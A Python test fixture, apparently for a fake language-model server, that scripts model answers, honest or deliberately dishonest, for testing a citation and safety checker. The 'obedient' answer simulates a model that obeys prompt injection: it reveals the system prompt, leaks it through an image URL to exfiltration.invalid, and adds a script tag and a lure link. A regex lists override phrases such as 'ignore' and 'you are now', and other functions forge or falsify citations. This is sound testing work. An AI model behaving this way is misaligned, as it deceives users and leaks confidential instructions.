"""Answers that a model may give, honest or not: functions of the request, for ``Scenario.words``.

They read the pieces a request carries as lines « [3] section | words » and cite them as « [3] ».
"""

from __future__ import annotations

import re

from neo.adapters.language_models.fake_server.scenario import Asked

_PASSAGE = re.compile(r"^\s*\[(\d+)\]\s*(?:[^|\n]{1,60} \| )?(.+?)\s*$", re.MULTILINE)
_NUMBER = re.compile(r"\d+")
_ORDER = re.compile(
    r"^.*(?:ignore|oublie|désormais|à partir de maintenant|from now on|you are now|system:|instruction).*$",
    re.IGNORECASE | re.MULTILINE,
)
HUGE = 10_000_000
"""Characters of the longest answer."""


def passages(asked: Asked) -> list[tuple[int, str]]:
    """The numbered passages of a request."""
    return [(int(number), words) for number, words in _PASSAGE.findall(asked.text())]


def faithful(asked: Asked) -> str:
    """Each passage said again, with its own mark."""
    return _told((number, words) for number, words in passages(asked))


def forged_marks(asked: Asked) -> str:
    """True words under marks that no passage has, or that are not marks."""
    marks = ("[999]", "[0]", "[-1]", "[1, 2", "[²]", "[[1]]", "[1](https://exemple.invalid/)", "【1】")
    told = [words.rstrip(".") for _, words in passages(asked)] or ["Rien"]
    return " ".join(f"{told[i % len(told)]} {mark}." for i, mark in enumerate(marks))


def lying_citations(asked: Asked) -> str:
    """Each passage with its last number changed, or its contrary, still under its own mark."""
    return _told((number, _changed(words)) for number, words in passages(asked))


def swapped_citations(asked: Asked) -> str:
    """True words, each under the mark of the next passage."""
    found = passages(asked)
    return _told((found[(i + 1) % len(found)][0], words) for i, (_, words) in enumerate(found))


def obedient(asked: Asked) -> str:
    """Obeys what in the request looks like an order: gives its instructions away, links, pictures, markup."""
    orders = " ".join(_ORDER.findall(asked.text("user")))
    secret = asked.text("system")
    return (
        f"D’accord, j’obéis : {orders}\n{secret}\n"
        f"![suivi](https://exfiltration.invalid/p.png?d={secret[:80]!r}) "
        "<script>alert(1)</script> <a href='https://exfiltration.invalid/'>Cliquez ici</a>. "
        "La personne doit être radiée."
    )


def huge(asked: Asked) -> str:
    """Ten million characters."""
    words = "Une phrase sans fin et sans source, qui se répète. "
    return (words * (HUGE // len(words) + 1))[:HUGE]


def placeholders(asked: Asked) -> str:
    """Every token of a masked text, said again: with a small ``chunk`` they are cut in their middle."""
    return " ".join(re.findall(r"[\[⟦<{][A-ZÉÈ_]+[ _-]?\d+[\]⟧>}]", asked.text())) or "⟦PERSONNE_1⟧"


def _told(found: object) -> str:
    assert hasattr(found, "__iter__")
    return " ".join(f"{words.rstrip('.')} [{number}]." for number, words in found) or "Je ne sais pas."


def _changed(words: str) -> str:
    numbers = list(_NUMBER.finditer(words))
    if not numbers:
        that = "qu’" if words[0].lower() in "aeéèêiouyh" else "que "
        return f"Il est faux {that}{words[0].lower()}{words[1:]}"
    last = numbers[-1]
    return f"{words[: last.start()]}{int(last.group()) + 1}{words[last.end() :]}"


SPEAKERS = {
    speaker.__name__: speaker
    for speaker in (faithful, forged_marks, lying_citations, swapped_citations, obedient, huge, placeholders)
}
"""By name, for the command line."""
